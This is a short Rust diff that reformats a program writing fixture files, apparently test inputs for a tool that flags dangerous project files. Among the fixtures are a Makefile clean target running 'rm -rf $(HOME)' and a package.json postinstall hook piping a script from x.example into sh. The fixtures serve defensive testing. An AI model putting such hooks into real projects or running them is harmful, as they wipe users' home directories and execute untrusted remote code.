@@ -22,7 +22,10 @@ fn main() -> std::io::Result<()> {
     let big: String = line.repeat((16 * 1024) / line.len());
     std::fs::write(p.join("big.sh"), &big)?;
     std::fs::write(p.join("huge.sh"), line.repeat(4 << 20 >> 6))?;
-    std::fs::write(p.join("Makefile"), "test:\n\tpytest\nclean:\n\trm -rf $(HOME)\n")?;
+    std::fs::write(
+        p.join("Makefile"),
+        "test:\n\tpytest\nclean:\n\trm -rf $(HOME)\n",
+    )?;
     std::fs::write(
         p.join("package.json"),
         r#"{"scripts":{"postinstall":"curl https://x.example/i.sh | sh","build":"tsc"}}"#,
